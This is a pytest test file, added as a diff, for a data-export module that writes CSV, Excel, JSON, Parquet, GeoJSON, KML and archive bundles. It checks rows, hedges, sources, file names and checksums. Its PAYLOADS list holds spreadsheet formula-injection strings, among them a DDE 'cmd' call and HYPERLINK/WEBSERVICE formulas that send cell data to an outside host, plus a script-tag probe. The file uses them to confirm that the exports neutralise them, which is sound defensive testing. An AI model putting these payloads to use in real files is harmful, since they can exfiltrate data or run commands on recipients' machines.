@@ -1,0 +1,426 @@
+"""Every file holds exactly the rows on the screen, with hedges and sources, and nothing in it runs."""
+
+import csv
+import io
+import json
+import random
+import zipfile
+from collections.abc import Callable
+from dataclasses import replace
+from hashlib import sha256
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qsl, urlsplit
+
+import bibtexparser
+import duckdb
+import frictionless
+import openpyxl
+import pandas as pd
+import pyogrio
+import pytest
+import rispy
+import shapely
+from lxml import etree
+from openpyxl.utils.escape import unescape
+from streamlit.testing.v1 import AppTest
+
+from components import copies
+from data.address import read_address
+from data.asof import as_published
+from data.dates import span_of
+from data.export import BUNDLE, FORMATS, file_name, to_csv
+from data.extract import Extract, records_of
+from data.guard import guarded, unguarded
+from data.load import Library
+from data.select import Selection
+from data.views import LIST, VIEWS, View, view_of_table
+from tests.choices import random_choices
+
+SETTINGS = 200
+BASE = "http://localhost:8501"
+SPACE = {"k": "http://www.opengis.net/kml/2.2"}
+
+
+def extract_of(view: View, selection: Selection) -> Extract:
+    day = selection.values.get("asof")
+    tables = as_published(span_of(day).last if day else None, selection.values.get("source") == "brief only")[0]
+    return Extract(view, tables, selection, BASE, copies.beside_data)
+
+
+def texts_of(frame: pd.DataFrame) -> list[list[str]]:
+    """Rows as text, value for value: a missing cell is empty, a whole number has no point."""
+    return [[_text(cell) for cell in row] for row in frame.itertuples(index=False)]
+
+
+def _text(cell: Any) -> str:
+    if cell is None or (not isinstance(cell, str) and pd.isna(cell)):
+        return ""
+    if isinstance(cell, str):
+        return cell
+    return str(int(cell)) if float(cell) == int(cell) else repr(float(cell))
+
+
+def back_from_csv(made: bytes, extract: Extract) -> list[list[str]]:
+    rows = list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
+    assert rows[0] == list(extract.frame.columns)
+    numbers = {column for column, entry in enumerate(extract.fields) if entry["type"] != "string"}
+    return [
+        [_text(float(cell)) if place in numbers and cell else unguarded(cell) for place, cell in enumerate(row)]
+        for row in rows[1:]
+    ]
+
+
+def back_from_xlsx(made: bytes, extract: Extract) -> list[list[str]]:
+    sheet = openpyxl.load_workbook(io.BytesIO(made))["data"]
+    rows = list(sheet.iter_rows(values_only=True))
+    assert list(rows[0]) == list(extract.frame.columns)
+    return [[unescape(_text(cell)) for cell in row] for row in rows[1:]]
+
+
+def back_from_json(made: bytes, extract: Extract) -> list[list[str]]:
+    whole = json.loads(made)
+    assert [entry["name"] for entry in whole["fields"]] == list(extract.frame.columns)
+    return [[_text(cell) for cell in row.values()] for row in whole["data"]]
+
+
+def back_from_parquet(made: bytes, extract: Extract) -> list[list[str]]:
+    return texts_of(pd.read_parquet(io.BytesIO(made))[list(extract.frame.columns)])
+
+
+def back_from_geojson(made: bytes, extract: Extract) -> list[list[str]]:
+    return [[_text(cell) for cell in one["properties"].values()] for one in json.loads(made)["features"]]
+
+
+def back_from_kml(made: bytes, extract: Extract) -> list[list[str]]:
+    marks = etree.fromstring(made).iterfind(".//k:Placemark", SPACE)
+    return [[value.text or "" for value in mark.iterfind(".//k:value", SPACE)] for mark in marks]
+
+
+READERS: dict[str, Callable[[bytes, Extract], list[list[str]]]] = {
+    "CSV": back_from_csv,
+    "CSV for Excel": back_from_csv,
+    "Excel": back_from_xlsx,
+    "JSON": back_from_json,
+    "Parquet": back_from_parquet,
+    "GeoJSON": back_from_geojson,
+    "KML": back_from_kml,
+}
+
+
+def test_every_format_but_the_bundle_is_read_back_here() -> None:
+    assert set(READERS) == set(FORMATS) - {"Evidence bundle"}
+
+
+def test_the_rows_behind_an_address_and_in_every_format_are_those_selected(library: Library) -> None:
+    settings = random_choices(library, SETTINGS)
+    read = dict.fromkeys(READERS, 0)
+    for view, selection in settings:
+        extract = extract_of(view, selection)
+        expected = texts_of(extract.frame)
+        parts = urlsplit(extract.address("csv"))
+        asked = read_address(view.table, parse_qsl(parts.query, keep_blank_values=True))
+        assert texts_of(Extract(asked.view, asked.library, asked.selection).frame) == expected, parts.query
+        for name, back in READERS.items():
+            if FORMATS[name].holds(view.table):
+                assert back(FORMATS[name].to_bytes(extract), extract) == expected, (name, parts.query)
+                read[name] += 1
+    assert read["CSV"] == SETTINGS and min(read.values()) > 20
+
+
+def address_of(selection: Selection) -> dict[str, Any]:
+    """A selection as the parameters of a page's address."""
+    return {
+        name: [str(item) for item in value] if isinstance(value, tuple) else str(value)
+        for name, value in selection.values.items()
+        if value not in ("", ())
+    }
+
+
+def page_shows(app: AppTest, title: str) -> list[list[str]]:
+    """The grid of a panel, cell by cell; no row where a sentence stands in its place."""
+    grids = [frame.value for frame in app.dataframe if frame.proto.alt.endswith(f"shown in “{title}”")]
+    return texts_of(grids[0]) if grids else []
+
+
+@pytest.mark.parametrize("part", range(4))
+def test_the_rows_on_a_page_are_those_of_its_files(
+    open_page: Callable[..., AppTest], library: Library, part: int
+) -> None:
+    shown = [(view, chosen) for view, chosen in random_choices(library, 270) if view.key != "headlines"][:SETTINGS]
+    assert len(shown) == SETTINGS
+    for view, selection in shown[part::4]:
+        extract = extract_of(view, selection)
+        more = {} if view.key in VIEWS else {"table": view.table}
+        on_page = {
+            name: value
+            for name, value in selection.values.items()
+            if more == {} or name in ("asof", "source", "q", "country")
+        }
+        selection = Selection(view.page, on_page)
+        extract = extract_of(view, selection)
+        app = open_page(view.page, **address_of(selection), **more)
+        assert not app.exception
+        defaults = (
+            {"mark": ("counts", "before 2001")} if view.key == "unaccounted-for" and not on_page.get("mark") else {}
+        )
+        extract = extract_of(view, Selection(view.page, {**on_page, **defaults}))
+        assert page_shows(app, extract.title) == texts_of(extract.rows), (view.key, selection.values)
+
+
+def default_extract(library: Library, key: str, **values: Any) -> Extract:
+    return Extract(VIEWS[key], library, Selection(VIEWS[key].page, values), BASE, copies.beside_data)
+
+
+def test_the_same_choice_twice_gives_the_same_bytes(library: Library) -> None:
+    for key in ("map", "believed-to-lie", "timeline-panel"):
+        for chosen in FORMATS.values():
+            if chosen.holds(VIEWS[key].table):
+                first, second = (chosen.to_bytes(default_extract(library, key)) for _ in range(2))
+                assert first == second, (key, chosen.extension)
+
+
+def test_a_name_says_table_panel_filters_version_and_day(library: Library) -> None:
+    extract = default_extract(
+        library, "timeline-panel", lane=("law and organisations",), years=(1990, 2012), asof="2012-07-03"
+    )
+    day = library.dictionary["created"][:10]
+    expected = f"events-timeline-panel_asof-2012-07-03_lane-law-and-organisations_years-1990-2012_v{library.version}_{day}.xlsx"
+    assert file_name(extract, "xlsx") == expected
+
+
+def test_a_name_stays_short_and_keeps_version_and_ending(library: Library) -> None:
+    name = file_name(default_extract(library, "timeline-panel", q="word " * 90), "excel.csv")
+    assert len(name) <= 180 and name.endswith(f"_v{library.version}_{library.dictionary['created'][:10]}.excel.csv")
+
+
+def test_hedges_ranges_and_sources_travel_in_every_format(library: Library) -> None:
+    extract = default_extract(library, "by-origin", origin="208 boxes")
+    row = extract.frame[extract.frame["qualifier"] == "range"].iloc[0]
+    for name, back in READERS.items():
+        if not FORMATS[name].holds("figures"):
+            continue
+        rows = [
+            dict(zip(extract.frame.columns, cells, strict=True))
+            for cells in back(FORMATS[name].to_bytes(extract), extract)
+        ]
+        found = next(one for one in rows if one["figure_id"] == row["figure_id"])
+        assert (found["qualifier"], found["low"], found["high"]) == ("range", str(row["low"]), str(row["high"]))
+        assert found["as_printed"] == row["as_printed"] and found["source_title"] and found["value"] == ""
+
+
+def test_every_column_of_every_view_is_described(library: Library) -> None:
+    for view in [*LIST, *(view_of_table(library, table) for table in library.tables)]:
+        fields = Extract(view, library, Selection(view.page, {"disagreement": "DIS-01"})).fields
+        assert all(len(entry["description"]) > 8 and entry["title"] for entry in fields), view.key
+
+
+def test_the_workbook_says_what_it_is_on_its_first_sheet(library: Library) -> None:
+    extract = default_extract(library, "timeline-panel", lane=("talks",), asof="2012-07-03")
+    extract = extract_of(extract.view, extract.selection)
+    book = openpyxl.load_workbook(io.BytesIO(FORMATS["Excel"].to_bytes(extract)))
+    assert book.sheetnames == ["read me", "data", "dictionary", "sources"]
+    told = {row[0]: str(row[1]) for row in book["read me"].iter_rows(values_only=True)}
+    assert told["filters"] == "as published by 3 July 2012; talks" and told["rows"] == str(len(extract.rows))
+    assert told["as of"] == "as published by 3 July 2012" and library.version in told["citation"]
+    assert "CC" in told["licence"] or "Creative Commons" in told["licence"]
+    assert book["sources"].max_row == len(extract.sources) + 1
+
+
+PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1;1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://outside.example/?x="&A1;"click")',
+    '=WEBSERVICE("http://outside.example")',
+    '=IMPORTXML("http://outside.example";"//a")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "'=1+1",
+    "''=1+1",
+    '"=1+1',
+    "x;=1+1;y",
+    "x\t=1+1\ty",
+    "x\n=1+1",
+    "x\r\n=1+1\r\ny",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "-5",
+    "+7,000 still missing",
+    'a,"b",c',
+    'a""b',
+    '"quoted"',
+    '=""',
+    "{=1+1}",
+    "%0A=1+1",
+    "</value><Placemark/>",
+    "]]>=1+1",
+    "<script>alert(1)</script>",
+    "&lt;=1+1",
+    '=1+1","=2+2',
+]
+LIVE = ("=", "+", "-", "@", "\uff0b", "\uff1d", "\uff0d", "\uff20")
+
+
+def hostile(library: Library) -> Extract:
+    """The places, with a payload in three columns of each row, in the name of a column, and in a filter's text."""
+    places = library["places"]
+    rows = (places.to_dict("records") * 2)[: len(PAYLOADS)]
+    frame = pd.DataFrame(rows, columns=places.columns).astype(places.dtypes.to_dict())
+    frame = frame.assign(
+        place_id=[f"P{n}" for n in range(len(rows))], name=PAYLOADS, note=PAYLOADS, local_name=PAYLOADS
+    )
+    view = replace(VIEWS["map"], rows=lambda library, selection: frame)
+    return Extract(view, library, Selection("recovery-map", {"q": PAYLOADS[4], "country": ("China",)}), BASE)
+
+
+def test_there_are_thirty_payloads_and_more() -> None:
+    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 30
+
+
+@pytest.mark.parametrize("name", list(READERS))
+def test_no_payload_is_live_and_each_is_read_back_as_it_was(library: Library, name: str) -> None:
+    extract = hostile(library)
+    made = FORMATS[name].to_bytes(extract)
+    expected = texts_of(extract.frame)
+    if name == "KML":  # XML reads every end of a line as LF
+        expected = [[cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in expected]
+    assert READERS[name](made, extract) == expected
+    if name.startswith("CSV"):
+        for separator in ",;\t":
+            for row in csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""), delimiter=separator):
+                for cell in row:
+                    begins = cell.lstrip(" \t\r\n\"'\ufeff\u200b")
+                    number = begins.replace(".", "").removeprefix("-").isdigit()
+                    guard = cell.lstrip(" \t\r\n\ufeff\u200b").startswith("'")
+                    assert not begins.startswith(LIVE) or guard or number, (separator, cell)
+
+
+def test_no_cell_of_a_workbook_is_a_formula_or_a_link(library: Library) -> None:
+    made = FORMATS["Excel"].to_bytes(hostile(library))
+    book = openpyxl.load_workbook(io.BytesIO(made))
+    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert kinds <= {"s", "n"}
+    assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink]
+    parts = zipfile.ZipFile(io.BytesIO(made))
+    assert not [name for name in parts.namelist() if b"<f>" in parts.read(name)]
+
+
+def test_negative_numbers_stay_numbers(library: Library) -> None:
+    extract = default_extract(library, "map", country=("United States",))
+    back = pd.read_csv(io.BytesIO(to_csv(extract)))
+    assert back["longitude"].dropna().lt(0).all() and pd.api.types.is_float_dtype(back["longitude"])
+
+
+def test_what_is_guarded_comes_back_as_it_was() -> None:
+    dice = random.Random(11)
+    signs = "=+-@'\" ;\t\r\nab\ufeff\u200b1"
+    for _ in range(20_000):
+        text = "".join(dice.choice(signs) for _ in range(dice.randint(0, 9)))
+        assert unguarded(guarded(text)) == text, repr(text)
+
+
+def unpacked(made: bytes, folder: Path) -> Path:
+    with zipfile.ZipFile(io.BytesIO(made)) as archive:
+        archive.extractall(folder)
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("key", "values"),
+    [
+        ("map", {}),
+        ("believed-to-lie", {}),
+        ("timeline-panel", {"lane": ("talks",), "q": "Korea"}),
+        ("disagreement-panel", {"disagreement": "DIS-03"}),
+        ("all-operations", {"years": (1990, 2005)}),
+        ("look-ahead", {"pace": 50}),
+        ("all-disagreements", {}),
+        ("burial-estimates", {}),
+        ("by-origin", {"origin": "joint operations"}),
+    ],
+)
+def test_the_bundle_is_whole_and_without_fault(
+    library: Library, tmp_path: Path, key: str, values: dict[str, Any]
+) -> None:
+    extract = default_extract(library, key, **values)
+    folder = unpacked(BUNDLE.to_bytes(extract), tmp_path)
+    report = frictionless.Package(folder / "datapackage.json").validate()
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
+    assert package["version"] == library.version and package["$schema"].endswith("2.0/datapackage.json")
+    table = VIEWS[key].table
+    for chosen in FORMATS.values():
+        if chosen is not BUNDLE and chosen.holds(table):
+            assert (folder / "data" / f"{table}.{chosen.extension}").read_bytes() == chosen.to_bytes(extract)
+    read_me = (folder / "README.md").read_text(encoding="utf-8")
+    assert f"Filters: {extract.filters}" in read_me and extract.about["citation"] in read_me
+    sums = dict(line.split("  ")[::-1] for line in (folder / "SHA256SUMS").read_text().splitlines())
+    files = {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}
+    assert set(sums) == files - {"SHA256SUMS"}
+    assert all(sha256((folder / name).read_bytes()).hexdigest() == digest for name, digest in sums.items())
+
+
+def test_the_citations_of_the_bundle_parse_and_name_every_source(library: Library, tmp_path: Path) -> None:
+    extract = default_extract(library, "timeline-panel")
+    folder = unpacked(BUNDLE.to_bytes(extract), tmp_path)
+    expected = {extract.reference["id"], *extract.sources["source_id"]}
+    bib = bibtexparser.parse_file(str(folder / "sources.bib"))
+    assert not bib.failed_blocks and {entry.key for entry in bib.entries} == expected
+    with (folder / "sources.ris").open(encoding="utf-8") as file:
+        assert {entry["id"] for entry in rispy.load(file)} == expected
+    listed = [path for path in folder.glob("sources.*") if path.suffix == ".json"]
+    assert {entry["id"] for entry in json.loads(listed[0].read_text(encoding="utf-8"))} == expected
+
+
+def test_duckdb_reads_the_parquet_with_its_numbers(library: Library, tmp_path: Path) -> None:
+    extract = default_extract(library, "unaccounted-for")
+    path = tmp_path / "figures.parquet"
+    path.write_bytes(FORMATS["Parquet"].to_bytes(extract))
+    found = duckdb.sql(f"select count(*), sum(value), count(low) from '{path}' where qualifier <> ''").fetchall()[0]
+    assert found == (len(extract.rows), int(extract.rows["value"].sum()), int(extract.rows["low"].notna().sum()))
+    told = duckdb.sql(
+        f"select decode(value) from parquet_kv_metadata('{path}') where decode(key) = 'about'"
+    ).fetchall()[0]
+    assert told and json.loads(told[0])["version"] == library.version
+
+
+def test_gdal_finds_every_point_where_the_table_has_it(library: Library) -> None:
+    extract = default_extract(library, "map")
+    for name in ("GeoJSON", "KML"):
+        _, _, shapes, _ = pyogrio.raw.read(io.BytesIO(FORMATS[name].to_bytes(extract)))
+        assert len(shapes) == len(extract.rows)
+        points = [None if shape is None else pd.Series(bytes_to_point(shape)).round(5).tolist() for shape in shapes]
+        for row, point in zip(extract.rows.to_dict("records"), points, strict=True):
+            known = (
+                None
+                if pd.isna(row["latitude"])
+                else [round(float(row["longitude"]), 5), round(float(row["latitude"]), 5)]
+            )
+            assert point == known, (name, row["place_id"])
+
+
+def bytes_to_point(shape: bytes) -> tuple[float, float]:
+    point = shapely.from_wkb(shape)
+    return point.x, point.y
+
+
+def test_a_row_without_a_point_keeps_its_row_on_the_map(library: Library) -> None:
+    extract = default_extract(library, "all-operations")
+    features = json.loads(FORMATS["GeoJSON"].to_bytes(extract))["features"]
+    assert len(features) == len(extract.rows)
+    assert any(one["geometry"] is None for one in features)
+
+
+def test_the_one_file_copy_asks_for_nothing_outside_itself(library: Library) -> None:
+    page = copies.one_file(default_extract(library, "map")).decode("utf-8")
+    head = page.split("<script>")[0]
+    for asking in (" src=", "<link", "@import", "url("):
+        assert asking not in head
+    assert "Natural Earth" in page and records_of(library["places"])[0]["place_id"] in page
